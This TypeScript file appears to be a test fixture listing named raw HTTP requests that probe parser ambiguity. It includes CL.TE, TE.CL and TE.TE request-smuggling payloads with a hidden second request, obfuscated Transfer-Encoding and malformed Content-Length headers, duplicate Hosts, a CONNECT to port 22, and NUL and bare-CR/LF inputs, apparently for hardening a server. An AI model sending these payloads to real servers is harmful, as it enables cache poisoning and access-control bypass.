// Requests that two parsers could read in two ways, as bytes: whoever reads one in the other's way finds a second
// request inside.

/** What hides behind each of them. */
export function smuggled(host: string): string {
  return `GET /smuggled HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
}

interface At {
  host: string;
  port: number;
}

const post =
  (fields: string, body: string) =>
  ({ host }: At): string =>
    `POST /echo HTTP/1.1\r\nHost: ${host}\r\n${fields}\r\n\r\n${body}`;

/** With a name each. */
export const SMUGGLING: [string, (at: At) => string][] = [
  [
    "CL.TE",
    (at) => post("Content-Length: 6\r\nTransfer-Encoding: chunked", `0\r\n\r\n${smuggled(at.host)}`)(at),
  ],
  [
    "TE.CL",
    (at) =>
      post(
        "Transfer-Encoding: chunked\r\nContent-Length: 4",
        `5\r\nhello\r\n0\r\n\r\n${smuggled(at.host)}`,
      )(at),
  ],
  [
    "TE.TE",
    (at) =>
      post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", `0\r\n\r\n${smuggled(at.host)}`)(at),
  ],
  ["TE with another coding", post("Transfer-Encoding: gzip, chunked", "0\r\n\r\n")],
  ["TE in another spelling", post("Transfer-Encoding: xchunked", "0\r\n\r\n")],
  ["TE behind a tab", post("Transfer-Encoding:\tchunked\u000b", "0\r\n\r\n")],
  ["space before the colon", post("Transfer-Encoding : chunked", "0\r\n\r\n")],
  ["two lengths", post("Content-Length: 0\r\nContent-Length: 5", "hello")],
  ["two equal lengths", post("Content-Length: 5\r\nContent-Length: 5", "hello")],
  ["a list of lengths", post("Content-Length: 5, 5", "hello")],
  ["a signed length", post("Content-Length: +5", "hello")],
  ["a negative length", post("Content-Length: -1", "")],
  ["a length in hex", post("Content-Length: 0x5", "hello")],
  ["a length beyond numbers", post("Content-Length: 99999999999999999999", "hello")],
  ["no host", () => "GET / HTTP/1.1\r\n\r\n"],
  ["an empty host", () => "GET / HTTP/1.1\r\nHost:\r\n\r\n"],
  ["two hosts", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\nHost: muster.localhost\r\n\r\n`],
  ["a host with a path", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}/x\r\n\r\n`],
  ["a host with a name before it", ({ host }) => `GET / HTTP/1.1\r\nHost: user@${host}\r\n\r\n`],
  [
    "absolute form",
    ({ host, port }) => `GET http://muster.localhost:${port}/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  ],
  ["CONNECT", ({ host }) => `CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: ${host}\r\n\r\n`],
  ["a folded field", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\nX-A: 1\r\n 2\r\n\r\n`],
  ["bare LF", ({ host }) => `GET / HTTP/1.1\nHost: ${host}\n\n`],
  ["bare LF between fields", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\nX-A: 1\r\n\r\n`],
  ["bare CR", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\nX-A: 1\rX-B: 2\r\n\r\n`],
  ["NUL in a value", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\nX-A: 1\0\r\n\r\n`],
  ["NUL in the target", ({ host }) => `GET /\0 HTTP/1.1\r\nHost: ${host}\r\n\r\n`],
  ["a space in the target", ({ host }) => `GET /a b HTTP/1.1\r\nHost: ${host}\r\n\r\n`],
  ["a field without a name", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\n: 1\r\n\r\n`],
  ["a field without a colon", ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\nnonsense\r\n\r\n`],
  ["a version of its own", ({ host }) => `GET / HTTP/1.2\r\nHost: ${host}\r\n\r\n`],
  ["TLS on the plain port", () => "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"],
  ["the preface of HTTP/2", () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"],
];
